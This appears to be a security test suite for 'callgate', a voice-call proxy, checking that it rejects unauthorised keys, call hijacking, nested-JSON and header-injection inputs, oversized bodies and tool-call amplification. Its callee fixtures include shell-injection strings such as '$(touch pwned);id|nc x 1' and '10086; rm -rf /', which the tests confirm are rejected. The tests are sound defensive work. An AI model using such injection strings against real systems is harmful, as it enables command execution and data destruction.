"""The attacks of issue #9 ("What was seen"), each replayed against callgate with the
protection in place: API keys and scopes, calls that belong to their key, secret
anonymous ids, no phantom calls, hostile bodies and call ids, amplification bounds,
and ``callgate serve`` refusing an exposed address without keys.

Every assertion is exact: status, OpenAI error ``code``/``param``, counts of events
and webhook posts. Nothing sleeps: each wait is on a condition with a timeout."""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import pytest
import yaml
from aiohttp import web

from proxy.demo.scripted_upstream import ScriptedReply, ScriptedUpstream
from proxy.storage import ops

from .conftest import Receiver, serve_app
from .process import ServeProcess

PLAIN = ScriptedReply(content=["Hello", ", how can I help?"])
HANGUP = ScriptedReply(content=["Thanks. ", '<imsagent_hangup endword="bye"/>'])

# Keys (at least 16 characters each).
KEY_A = "sk-cg-runtime-a-0123456789"
KEY_B = "sk-cg-runtime-b-0123456789"
KEY_C = "sk-cg-runtime-c-0123456789"
KEY_LAYER = "sk-cg-call-layer-012345678"
KEY_LAYER_C = "sk-cg-layer-of-c-012345678"
UPSTREAM_KEY = "sk-upstream-secret-999"
AUTH = {
    "keys": [
        {"name": "runtime-a", "key": KEY_A, "scopes": ["relay"]},
        {"name": "runtime-b", "key": KEY_B, "scopes": ["relay"]},
        {"name": "runtime-c", "key": KEY_C, "scopes": ["relay"]},
        {"name": "call-layer", "key": KEY_LAYER, "scopes": ["calls:read", "calls:write"]},
        {"name": "layer-of-c", "key": KEY_LAYER_C, "scopes": ["calls:read", "calls:write"], "calls_of": ["runtime-c"]},
    ]
}


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def chat(text: str = "hi", **extra: Any) -> dict[str, Any]:
    return {"model": "m", "stream": True, "messages": [{"role": "user", "content": text}], **extra}


async def request(
    method: str, url: str, *, headers: dict[str, str] | None = None, json_body: Any = None, data: bytes | None = None
) -> tuple[int, dict[str, str], bytes]:
    """One request; ``(status, headers, body)``. For an SSE route that answers 200 only
    the headers are waited for."""
    async with aiohttp.ClientSession() as http:
        kw: dict[str, Any] = {"headers": headers or {}}
        if json_body is not None:
            kw["json"] = json_body
        if data is not None:
            kw["data"] = data
        async with http.request(method, url, **kw) as r:
            if r.content_type == "text/event-stream" and r.status == 200 and method == "GET":
                return r.status, dict(r.headers), b""
            return r.status, dict(r.headers), await r.read()


def error_of(body: bytes) -> dict[str, Any]:
    """The OpenAI error object of a response body (exactly its four fields)."""
    err = json.loads(body)["error"]
    assert set(err) == {"message", "type", "param", "code"}, err
    return err


def tool_reply(name: str, args: list[dict[str, Any]], content: tuple[str, ...] = ()) -> ScriptedReply:
    """One reply with ``len(args)`` tool calls named ``name`` (one chunk each)."""
    entries = [
        {"index": i, "id": f"call_{i}", "type": "function", "function": {"name": name, "arguments": json.dumps(a)}}
        for i, a in enumerate(args)
    ]
    return ScriptedReply(content=content, tool_calls=entries, finish_reason="tool_calls")


def nested(depth: int, key: str = "a") -> dict[str, Any]:
    """An object ``depth`` levels deep: ``{"a": {"a": ... {}}}`` (the outer one is level 1)."""
    value: dict[str, Any] = {}
    for _ in range(depth - 1):
        value = {key: value}
    return value


async def raw_http(url: str, head: bytes, body: bytes = b"") -> tuple[int, bytes]:
    """Send a hand-written HTTP/1.1 request (bytes no client library would send);
    ``(status, body)`` of the answer."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    try:
        writer.write(head + b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
        await writer.drain()
        data = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
    status_line, _, rest = data.partition(b"\r\n")
    return int(status_line.split()[1]), rest.partition(b"\r\n\r\n")[2]


async def calls_in(s: Any) -> list[dict[str, Any]]:
    await s.registry.drain()
    return await s.store.read(ops.list_calls, limit=10_000)


# -- 1. keys and scopes ---------------------------------------------------------------------

ROUTES = [
    ("POST", "/v1/chat/completions", chat()),
    ("GET", "/v1/models", None),
    ("POST", "/ims/v1/chat/completions", chat()),
    ("GET", "/ims/v1/models", None),
    ("GET", "/v1/calls/call-x", None),
    ("GET", "/v1/calls/call-x/events", None),
    ("POST", "/v1/calls/call-x/end", {"reason": "x"}),
    ("PATCH", "/v1/calls/call-x/state", {"k": 1}),
]


async def test_every_route_needs_a_key_with_its_scope_and_the_runtime_key_never_goes_upstream(stack: Any) -> None:
    seen: list[dict[str, str]] = []  # the headers of every request the upstream got

    @web.middleware
    async def record(req: web.Request, handler: Any) -> web.StreamResponse:
        seen.append(dict(req.headers))
        return await handler(req)

    upstream = ScriptedUpstream([PLAIN])
    app = upstream.app()
    app.middlewares.append(record)
    async with serve_app(app) as up:
        s = await stack([PLAIN], upstream_url=up + "/v1", auth=AUTH, upstream={"api_key": UPSTREAM_KEY})
        for method, path, body in ROUTES:
            for headers in ({}, bearer("sk-cg-not-a-key-0000000"), {"api-key": "sk-cg-not-a-key-0000000"}, {"Authorization": KEY_A}):
                status, _, got = await request(method, s.url + path, headers=headers, json_body=body)
                assert status == 401, (method, path, headers, got)
                err = error_of(got)
                assert (err["type"], err["code"]) == ("invalid_request_error", "invalid_api_key")
                assert "no valid API key" in err["message"]
        # a valid key without the route's scope
        for method, path, body in ROUTES:
            wrong, scope = (KEY_LAYER, "relay") if "/calls/" not in path else (KEY_A, "calls:write" if method in ("POST", "PATCH") else "calls:read")
            status, _, got = await request(method, s.url + path, headers=bearer(wrong), json_body=body)
            assert status == 403, (method, path, got)
            err = error_of(got)
            assert err["code"] == "insufficient_permissions"
            assert f"has no {scope!r} scope" in err["message"]
        assert seen == [] and await calls_in(s) == []
        # both ways of sending a key work; the upstream gets its own key, never the runtime's
        for headers in (bearer(KEY_A), {"api-key": KEY_A}, {"Authorization": f"bearer {KEY_A}"}):
            status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={**headers, "X-Call-Id": "call-keys"}, json_body=chat())
            assert status == 200, got
            status, _, got = await request("GET", f"{s.url}/v1/models", headers=headers)
            assert status == 200 and json.loads(got)["data"][0]["id"] == "scripted-1"
        assert len(seen) == 6
        for h in seen:
            assert h["Authorization"] == f"Bearer {UPSTREAM_KEY}"
            assert "api-key" not in {k.lower() for k in h}
            assert all(KEY_A not in v for v in h.values())
        status, _, got = await request("GET", f"{s.url}/v1/calls/call-keys", headers=bearer(KEY_LAYER))
        assert status == 200 and json.loads(got)["owner"] == "runtime-a" and len(json.loads(got)["turns"]) == 3
        status, _, _ = await request("GET", f"{s.url}/healthz")
        assert status == 200  # the health check needs no key


async def test_without_an_upstream_key_the_runtime_key_is_not_forwarded(stack: Any) -> None:
    s = await stack([PLAIN], auth=AUTH)
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"api-key": KEY_A}, json_body=chat())
    assert status == 200
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers=bearer(KEY_A), json_body=chat())
    assert status == 200
    assert len(s.upstream.requests) == 2
    for got in s.upstream.requests:
        assert {k.lower() for k in got.headers} & {"authorization", "api-key"} == set()


# -- 2. a call belongs to its key -------------------------------------------------------------

async def test_another_key_cannot_take_over_or_hang_up_a_call(stack: Any) -> None:
    hook = Receiver()
    async with serve_app(hook.app()) as hook_url:
        s = await stack([PLAIN, HANGUP], auth=AUTH, control={"webhook": {"url": f"{hook_url}/events", "backoff_s": 0.01}})
        status, headers, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={**bearer(KEY_A), "X-Call-Id": "victim"}, json_body=chat())
        assert status == 200 and headers["X-Call-Id"] == "victim"
        # key B names A's call, and its reply would carry a hangup
        for h in (bearer(KEY_B), {"api-key": KEY_B}):
            status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={**h, "X-Call-Id": "victim"}, json_body=chat("bye"))
            assert status == 403, got
            err = error_of(got)
            assert err["code"] == "insufficient_permissions" and "belongs to another key" in err["message"]
        await s.registry.drain()
        victim = s.registry.get("victim")
        assert victim is not None and not victim.lifecycle.hung_up and victim.hangup_source is None and not victim.ended
        record = await s.record("victim")
        assert (record["status"], record["owner"], record["events"], len(record["turns"])) == ("active", "runtime-a", [], 1)
        # the call layer ends it: the only events the webhook ever gets are this end
        status, _, got = await request("POST", f"{s.url}/v1/calls/victim/end", headers=bearer(KEY_LAYER), json_body={"reason": "caller_hangup"})
        assert status == 200 and json.loads(got)["already_ended"] is False
        [ended] = await hook.wait_for(1)
        await s.delivery.settled()
        assert len(hook.got) == 1 and (ended["type"], ended["seq"], ended["reason"]) == ("call.ended", 1, "caller_hangup")
        # nor can B start a new call under the ended call's id
        status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={**bearer(KEY_B), "X-Call-Id": "victim"}, json_body=chat())
        assert status == 403 and error_of(got)["code"] == "insufficient_permissions"


async def test_calls_of_limits_a_call_layer_key_to_its_runtimes_calls(stack: Any) -> None:
    s = await stack([PLAIN], auth=AUTH)
    for key, call_id in ((KEY_A, "call-of-a"), (KEY_C, "call-of-c")):
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={**bearer(key), "X-Call-Id": call_id}, json_body=chat())
        assert status == 200
    await s.registry.drain()
    limited = bearer(KEY_LAYER_C)
    for method, path, body in [
        ("GET", "/v1/calls/call-of-a", None),
        ("GET", "/v1/calls/call-of-a?generation=1", None),
        ("GET", "/v1/calls/call-of-a/events", None),
        ("PATCH", "/v1/calls/call-of-a/state", {"intent": "stolen"}),
        ("POST", "/v1/calls/call-of-a/end", {"reason": "hijacked"}),
    ]:
        status, _, got = await request(method, s.url + path, headers=limited, json_body=body)
        assert status == 404, (method, path, got)
        err = error_of(got)
        assert err["code"] == "call_not_found" and "'call-of-a'" in err["message"]
    record = await s.record("call-of-a")
    assert (record["status"], record["state"], record["events"]) == ("active", {}, [])
    # its own runtime's call, it may read and end
    status, _, got = await request("GET", f"{s.url}/v1/calls/call-of-c", headers=limited)
    assert status == 200 and json.loads(got)["owner"] == "runtime-c"
    status, _, got = await request("POST", f"{s.url}/v1/calls/call-of-c/end", headers=limited, json_body={"reason": "done"})
    assert status == 200 and json.loads(got)["end_reason"] == "done"
    # the unlimited call-layer key sees A's call
    status, _, got = await request("GET", f"{s.url}/v1/calls/call-of-a", headers=bearer(KEY_LAYER))
    assert status == 200 and json.loads(got)["owner"] == "runtime-a"


# -- 3. anonymous call ids are secret ------------------------------------------------------------

async def test_anonymous_call_ids_carry_128_random_bits(stack: Any) -> None:
    s = await stack([PLAIN])
    ids = []
    for _ in range(3):
        status, headers, _ = await request("POST", f"{s.url}/v1/chat/completions", json_body=chat())
        assert status == 200
        ids.append(headers["X-Call-Id"])
    hexes = []
    for call_id in ids:
        assert call_id.startswith("req_") and len(call_id) == 4 + 32, call_id
        int(call_id[4:], 16)  # 32 hex digits: 128 bits
        hexes.append(call_id[4:])
    for a, b in itertools.pairwise(hexes):
        common = next((i for i, (x, y) in enumerate(zip(a, b)) if x != y), len(a))
        assert common < 8, (a, b)  # no shared per-process prefix (chance 2**-32)
        assert abs(int(a, 16) - int(b, 16)) > 2**64  # not a counter
    for call_id in ids:  # each is the record of its own call, which ended with its reply
        record = await s.record(call_id)
        assert (record["id"], record["anonymous"], record["status"], record["end_reason"]) == (call_id, True, "ended", "response_finished")
        assert [t["request_id"] for t in record["turns"]] != [call_id]


# -- 4. phantom calls --------------------------------------------------------------------------

async def test_end_and_state_on_unknown_ids_create_nothing(stack: Any) -> None:
    crm, hook = Receiver(), Receiver()
    async with serve_app(crm.app()) as crm_url, serve_app(hook.app()) as hook_url:
        s = await stack(
            [PLAIN],
            end_function={"steps": [{"name": "crm", "kind": "webhook", "url": f"{crm_url}/calls"}]},
            control={"webhook": {"url": f"{hook_url}/events", "backoff_s": 0.01}},
        )
        for i in range(25):
            status, _, got = await request("POST", f"{s.url}/v1/calls/phantom-{i}/end", json_body={"reason": "caller_hangup", "state": {"x": i}})
            assert status == 404 and error_of(got)["code"] == "call_not_found", got
            status, _, got = await request("PATCH", f"{s.url}/v1/calls/phantom-{i}/state", json_body={"intent": "billing"})
            assert status == 404 and error_of(got)["code"] == "call_not_found", got
        # subscribing early to an unknown call is allowed, and creates nothing either
        async with aiohttp.ClientSession() as http, http.get(f"{s.url}/v1/calls/early-bird/events") as r:
            assert r.status == 200 and r.content_type == "text/event-stream"
        assert await calls_in(s) == []
        assert await s.store.read(ops.list_jobs) == []
        assert await s.store.read(ops.list_deliveries) == []
        assert s.registry.get("early-bird") is None and s.registry.get("phantom-0") is None
        # a real call ends and its end function runs: the only post the steps ever get
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "real"}, json_body=chat())
        assert status == 200
        status, _, _ = await request("POST", f"{s.url}/v1/calls/real/end", json_body={"reason": "caller_hangup"})
        assert status == 200
        [record] = await crm.wait_for(1)
        await s.pipeline.wait_call("real", 5)
        await hook.wait_for(1)
        await s.delivery.settled()
        assert record["id"] == "real" and len(crm.got) == 1
        assert [b["type"] for b in hook.bodies] == ["call.ended"] and len(hook.got) == 1
        assert [c["id"] for c in await calls_in(s)] == ["real"]
        assert [j.call_key for j in await s.store.read(ops.list_jobs)] == ["real"]


# -- 5. hostile bodies and call ids ------------------------------------------------------------

async def test_json_nested_2000_deep_is_400_not_500(stack: Any) -> None:
    s = await stack([PLAIN])
    deep = b'{"model": "m", "messages": [{"role": "user", "content": "hi"}], "x": ' + b"[" * 2000 + b"]" * 2000 + b"}"
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", data=deep, headers={"Content-Type": "application/json"})
    assert status == 400, got
    err = error_of(got)
    assert (err["type"], err["code"]) == ("invalid_request_error", "json_too_deep")
    assert "nested deeper than 64" in err["message"]
    # as deep as the limit is not a recursion problem either: 100 levels name the path
    body = chat(x=nested(100))
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", json_body=body)
    assert status == 400
    err = error_of(got)
    assert (err["code"], err["param"]) == ("json_too_deep", "x" + ".a" * 63)
    assert s.upstream.requests == [] and await calls_in(s) == []


async def test_state_and_extend_data_past_max_json_depth_are_400_naming_the_path(stack: Any) -> None:
    crm = Receiver()
    async with serve_app(crm.app()) as crm_url:
        s = await stack([PLAIN], end_function={"steps": [{"name": "crm", "kind": "webhook", "url": f"{crm_url}/calls"}]})
        extend = {"instanceId": "ims-deep", "userData": nested(100, "n")}
        status, _, got = await request("POST", f"{s.url}/ims/v1/chat/completions", json_body=chat(extendData=extend))
        assert status == 400, got
        err = error_of(got)
        # root 1, extendData 2, userData 3: the 65th level is 62 "n"s below userData
        assert (err["code"], err["param"]) == ("json_too_deep", "extendData.userData" + ".n" * 62)
        assert "at extendData.userData" in err["message"]
        assert s.upstream.requests == [] and await calls_in(s) == []
        # within the limit: taken, stored, ended, and the end function gets it all
        extend = {"instanceId": "ims-deep", "userData": nested(62, "n")}  # 64 levels in all
        status, headers, got = await request("POST", f"{s.url}/ims/v1/chat/completions", json_body=chat(extendData=extend))
        assert status == 200 and headers["X-Call-Id"] == "ims-deep", got
        status, _, got = await request("PATCH", f"{s.url}/v1/calls/ims-deep/state", json_body={"k": nested(100)})
        assert status == 400
        err = error_of(got)
        assert (err["code"], err["param"]) == ("json_too_deep", "k" + ".a" * 63)
        status, _, got = await request("PATCH", f"{s.url}/v1/calls/ims-deep/state", json_body={"k": nested(63)})
        assert status == 200, got
        status, _, got = await request("POST", f"{s.url}/v1/calls/ims-deep/end", json_body={"reason": "done", "state": {"e": nested(100)}})
        assert status == 400 and error_of(got)["param"] == "state.e" + ".a" * 62
        status, _, got = await request("POST", f"{s.url}/v1/calls/ims-deep/end", json_body={"reason": "done"})
        assert status == 200 and json.loads(got)["already_ended"] is False
        [sent] = await crm.wait_for(1)
        [job] = await s.pipeline.wait_call("ims-deep", 5)
        assert job.status == "done"
        assert sent["status"] == "ended" and sent["state"]["k"] == nested(63)
        assert sent["metadata"]["userData"] == nested(62, "n")
        record = await s.record("ims-deep")
        assert (record["status"], record["end_reason"], record["end_function"]["status"]) == ("ended", "done", "done")


async def test_ims_user_data_json_string_nested_2000_deep_is_400(stack: Any) -> None:
    """IMS sends ``extendData.userData`` as a JSON *string* that callgate parses into the
    metadata: its nesting is a body's nesting too."""
    s = await stack([PLAIN])
    extend = {"instanceId": "ims-deep-str", "userData": "[" * 2000 + "]" * 2000}
    status, _, got = await request("POST", f"{s.url}/ims/v1/chat/completions", json_body=chat(extendData=extend))
    assert status == 400, got
    assert error_of(got)["code"] == "json_too_deep"
    assert await calls_in(s) == []


BAD_BODY_IDS = [("cr-lf", "call-1\r\nX-Injected: 1"), ("nul", "call-1\x00evil"), ("escape", "call-\x1b[31m"), ("del", "call\x7f")]


@pytest.mark.parametrize("name,bad", BAD_BODY_IDS, ids=[n for n, _ in BAD_BODY_IDS])
async def test_control_characters_in_a_body_call_id_are_400_naming_the_source(stack: Any, name: str, bad: str) -> None:
    s = await stack([PLAIN])
    for path, body, source in [
        ("/v1/chat/completions", chat(metadata={"call_id": bad}), "body metadata.call_id"),
        ("/ims/v1/chat/completions", chat(extendData={"instanceId": bad}), "body extendData.instanceId"),
    ]:
        status, headers, got = await request("POST", s.url + path, json_body=body)
        assert status == 400, got
        err = error_of(got)
        assert (err["code"], err["param"]) == ("invalid_call_id", source)
        assert err["message"] == f"the call id from {source} holds a control character"
        assert "X-Injected" not in headers
    assert s.upstream.requests == [] and await calls_in(s) == []  # no turn, in progress or not


async def test_bad_call_ids_in_headers_and_paths_are_400_never_500(stack: Any) -> None:
    s = await stack([PLAIN])
    body = json.dumps(chat()).encode()
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: callgate\r\nContent-Type: application/json\r\n"
    # undecodable bytes: not UTF-8
    status, got = await raw_http(s.url, head + b"X-Call-Id: call-\xff\xfe-x\r\n", body)
    assert status == 400, got
    err = error_of(got)
    assert (err["code"], err["param"]) == ("invalid_call_id", "header X-Call-Id")
    assert "not valid UTF-8" in err["message"]
    # a tab is a control character HTTP lets through
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call\tx"}, json_body=chat())
    assert status == 400 and (error_of(got)["code"], error_of(got)["param"]) == ("invalid_call_id", "header X-Call-Id")
    # CR, LF, NUL in a header: the HTTP parser refuses them first (still 400, still nothing)
    for bad in (b"call-1\rX-Injected: 1", b"call-1\x00evil"):
        status, got = await raw_http(s.url, head + b"X-Call-Id: " + bad + b"\r\n", body)
        assert status == 400, got
    # in the path of the call API (percent-encoded)
    for path in ("/v1/calls/a%0D%0Ab", "/v1/calls/a%00b", "/v1/calls/a%0D%0Ab/events"):
        status, _, got = await request("GET", s.url + path)
        assert status == 400, (path, got)
        assert (error_of(got)["code"], error_of(got)["param"]) == ("invalid_call_id", "path")
    for method, path in (("POST", "/v1/calls/a%0Ab/end"), ("PATCH", "/v1/calls/a%0Ab/state")):
        status, _, got = await request(method, s.url + path, json_body={})
        assert status == 400 and error_of(got)["code"] == "invalid_call_id", (path, got)
    # 129 characters: one too many
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "c" * 129}, json_body=chat())
    assert status == 400
    err = error_of(got)
    assert (err["code"], err["param"]) == ("invalid_call_id", "header X-Call-Id") and "129 characters" in err["message"]
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "c" * 128}, json_body=chat())
    assert status == 200  # exactly the limit is fine
    assert [c["id"] for c in await calls_in(s)] == ["c" * 128]


async def test_a_3_000_000_character_call_id_is_400_and_stores_nothing(stack: Any) -> None:
    s = await stack([PLAIN])
    huge = "c" * 3_000_000
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", json_body=chat(metadata={"call_id": huge}))
    assert status == 400
    err = error_of(got)
    assert (err["code"], err["param"]) == ("invalid_call_id", "body metadata.call_id")
    assert err["message"] == "the call id from body metadata.call_id is 3000000 characters long; at most 128"
    assert len(got) < 1000  # the id is not echoed back
    # in a header aiohttp's parser refuses it (over 8190 bytes) before callgate sees it
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": huge}, json_body=chat())
    assert status == 400
    assert s.upstream.requests == [] and await calls_in(s) == []


async def test_state_and_end_bodies_over_max_state_bytes_are_413(stack: Any) -> None:
    s = await stack([PLAIN], server={"max_state_bytes": 1024})
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-big"}, json_body=chat())
    assert status == 200
    for method, path, body in (
        ("PATCH", "/v1/calls/call-big/state", {"notes": "x" * 2000}),
        ("POST", "/v1/calls/call-big/end", {"reason": "done", "state": {"notes": "x" * 2000}}),
    ):
        status, _, got = await request(method, s.url + path, json_body=body)
        assert status == 413, got
        err = error_of(got)
        assert err["code"] == "request_too_large" and "1024" in err["message"]
    status, _, got = await request("PATCH", f"{s.url}/v1/calls/call-big/state", json_body={"notes": "x" * 900})
    assert status == 200, got
    record = await s.record("call-big")
    assert (record["status"], record["state"]) == ("active", {"notes": "x" * 900})


async def test_an_end_reason_is_short_and_printable(stack: Any) -> None:
    s = await stack([PLAIN])
    status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-why"}, json_body=chat())
    assert status == 200
    for bad in ("x" * 129, "done\r\nX-Injected: 1", "", 7):
        status, _, got = await request("POST", f"{s.url}/v1/calls/call-why/end", json_body={"reason": bad})
        assert status == 400, got
        assert error_of(got)["param"] == "reason"
    assert (await s.record("call-why"))["status"] == "active"
    status, _, got = await request("POST", f"{s.url}/v1/calls/call-why/end", json_body={"reason": "x" * 128})
    assert status == 200 and json.loads(got)["end_reason"] == "x" * 128


# -- 6. amplification ------------------------------------------------------------------------

TRANSFER_ARGS = {"callee": "+14155550123", "msg": "Transferring.", "err_msg": "Sorry."}


async def test_a_thousand_transfers_in_one_reply_are_one_transfer(stack: Any) -> None:
    s = await stack([tool_reply("transfer_call", [TRANSFER_ARGS] * 1000, content=("One moment. ",))])
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-1000t"}, json_body=chat())
    assert status == 200
    heard = "".join(
        (json.loads(line[6:])["choices"][0]["delta"].get("content") or "")
        for line in got.decode().splitlines()
        if line.startswith("data: {") and json.loads(line[6:]).get("choices")
    )
    # the accepted transfer's msg once; of 999 rejected ones only the first err_msg (spoken_rejections_per_reply: 1)
    assert heard == "One moment. Transferring.Sorry."
    record = await s.record("call-1000t")
    events = record["events"]
    assert [e["type"] for e in events] == ["transfer"] + ["command.rejected"] * 4
    assert events[0]["callee"] == "+14155550123"
    assert [e.get("count") for e in events[1:]] == [1, 1, 1, 996]
    assert [e["reason"] for e in events[1:4]] == ["a second transfer in the same reply"] * 3
    assert events[4]["reason"] == "996 more commands rejected in this reply"
    [turn] = record["turns"]
    assert len(turn["commands"]) == 4 and len(turn["raw_text"]) < 100


async def test_a_thousand_hangups_are_one_hangup_and_six_webhook_posts(stack: Any) -> None:
    hook = Receiver()
    async with serve_app(hook.app()) as hook_url:
        s = await stack(
            [tool_reply("hangup", [{"endword": "bye"}] * 1000, content=("Thanks. ",))],
            control={"webhook": {"url": f"{hook_url}/events", "backoff_s": 0.01}},
        )
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-1000h"}, json_body=chat())
        assert status == 200
        # hangup, 3 rejected, 1 rejected with count 996, call.ended
        bodies = await hook.wait_for(6)
        await s.delivery.settled()
        assert len(hook.got) == 6
        assert [b["type"] for b in bodies] == ["hangup"] + ["command.rejected"] * 4 + ["call.ended"]
        assert [b.get("count") for b in bodies[1:5]] == [1, 1, 1, 996]
        assert [b["seq"] for b in bodies] == [1, 2, 3, 4, 5, 6]
        assert bodies[5]["reason"] == "agent_hangup"
        record = await s.record("call-1000h")
        assert record["turns"][0]["spoken_text"] == "Thanks. bye"  # the endword once
        assert len(record["events"]) == 6


async def _amplify(s: Any, replies: int, *, settle_each: bool) -> list[dict[str, Any]]:
    """``replies`` turns on call-amp; the records of every generation it made."""
    for _ in range(replies):
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-amp"}, json_body=chat())
        assert status == 200
        if settle_each:
            await s.registry.drain()
    await s.registry.drain()
    records = []
    while (rec := await s.registry.record("call-amp" if not records else f"call-amp~{len(records) + 1}", exact=True)) is not None:
        records.append(rec)
    return records


async def test_replies_past_max_events_per_call_end_the_call(stack: Any) -> None:
    s = await stack([tool_reply("transfer_call", [TRANSFER_ARGS] * 1000)], limits={"max_events_per_call": 20})
    # 5 events a reply (transfer, 3 rejected, 1 counted): the 5th reply takes a call past 20
    records = await _amplify(s, 20, settle_each=True)
    assert len(records) == 4
    for rec in records:
        assert (rec["status"], rec["end_reason"], len(rec["turns"]), len(rec["events"])) == ("ended", "limits_exceeded", 5, 26)
        assert [e["type"] for e in rec["events"]].count("transfer") == 5
        assert rec["events"][-1]["type"] == "call.ended" and rec["events"][-1]["seq"] == 26
    assert len(s.registry) == 0  # ended calls leave memory


async def test_back_to_back_replies_never_land_after_call_ended(stack: Any) -> None:
    s = await stack([tool_reply("transfer_call", [TRANSFER_ARGS] * 1000)], limits={"max_events_per_call": 20})
    records = await _amplify(s, 20, settle_each=False)
    assert [(r["status"], r["end_reason"]) for r in records] == [("ended", "limits_exceeded")] * 4
    for rec in records:
        assert rec["events"][-1]["type"] == "call.ended", [e["type"] for e in rec["events"]][-7:]
        assert (len(rec["turns"]), len(rec["events"])) == (5, 26)


async def test_turns_past_max_turns_per_call_are_429_and_end_the_call(stack: Any) -> None:
    s = await stack([PLAIN], limits={"max_turns_per_call": 3})
    for _ in range(3):
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-turns"}, json_body=chat())
        assert status == 200
    status, _, got = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-turns"}, json_body=chat())
    assert status == 429, got
    err = error_of(got)
    assert err["code"] == "call_limits_exceeded" and "max_turns_per_call" in err["message"]
    record = await s.record("call-turns")
    assert (record["status"], record["end_reason"], len(record["turns"])) == ("ended", "limits_exceeded", 3)
    assert [t["status"] for t in record["turns"]] == ["ok"] * 3
    assert [e["type"] for e in record["events"]] == ["call.ended"]


CALLEES = [
    ("$(touch pwned);id|nc x 1", False),
    ("10086; rm -rf /", False),
    ("sip:agent@example.com?x=$(id)", False),
    ("+1 415 555 0123", False),
    ("javascript:alert(1)", False),
    ("+14155550123", True),
    ("10086", True),
    ("sip:agent@example.com", True),
    ("tel:+1-555", True),
]


async def test_a_callee_must_be_a_phone_number_or_a_sip_tel_uri(stack: Any) -> None:
    replies = [tool_reply("transfer_call", [{"callee": callee, "msg": "One moment."}]) for callee, _ in CALLEES]
    # and the same injection as a text command
    replies.append(ScriptedReply(content=["Sure. ", '<imsagent_transfer_call callee="$(touch pwned);id|nc x 1" msg="m"/>']))
    s = await stack(replies)
    for _ in replies:  # one reply a turn: one transfer per reply
        status, _, _ = await request("POST", f"{s.url}/v1/chat/completions", headers={"X-Call-Id": "call-callee"}, json_body=chat())
        assert status == 200
    events = (await s.record("call-callee"))["events"]
    assert len(events) == len(CALLEES) + 1
    tag = events.pop()
    assert (tag["type"], tag["source"], tag["attrs"]["callee"]) == ("command.rejected", "text_command", "$(touch pwned);id|nc x 1")
    assert tag["reason"] == "callee is not a phone number (E.164: +, digits, * #) or a sip:/tel: URI"
    for (callee, ok), event in zip(CALLEES, events):
        if ok:
            assert (event["type"], event["callee"]) == ("transfer", callee)
        else:
            assert event["type"] == "command.rejected", event
            assert event["reason"] == "callee is not a phone number (E.164: +, digits, * #) or a sip:/tel: URI"
            assert event["attrs"]["callee"] == callee
    transfers = [e["callee"] for e in events if e["type"] == "transfer"]
    assert transfers == [c for c, ok in CALLEES if ok]


# -- 7. callgate serve on an exposed address -----------------------------------------------------

def _config(tmp_path: Path, name: str, **extra: Any) -> Path:
    cfg = tmp_path / f"{name}.yaml"
    data = {"upstream": {"base_url": "http://127.0.0.1:9/v1"}, "storage": {"path": str(tmp_path / f"{name}.db")}, **extra}
    cfg.write_text(yaml.safe_dump(data))
    return cfg


async def test_serve_refuses_a_public_host_without_keys(tmp_path: Path) -> None:
    cfg = _config(tmp_path, "open")
    callgate = Path(sys.executable).parent / "callgate"
    proc = await asyncio.create_subprocess_exec(
        str(callgate), "serve", "--config", str(cfg), "--host", "0.0.0.0", "--port", "0",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )
    _, err = await asyncio.wait_for(proc.communicate(), 30)
    assert proc.returncode == 2, err
    text = err.decode()
    assert text.startswith("callgate: refusing to serve on 0.0.0.0 with no API keys")
    assert "Add one under auth.keys" in text and "scopes: [relay]" in text
    assert "auth.allow_unauthenticated: true" in text
    assert "listening" not in text and not (tmp_path / "open.db").exists()

    allowed = _config(tmp_path, "allowed", auth={"allow_unauthenticated": True})
    server = ServeProcess(allowed, "--host", "0.0.0.0")
    url = await server.start()
    assert url.startswith("http://0.0.0.0:")
    assert any("serving on 0.0.0.0 with no API keys" in line for line in server.log)
    assert await server.stop() == 0
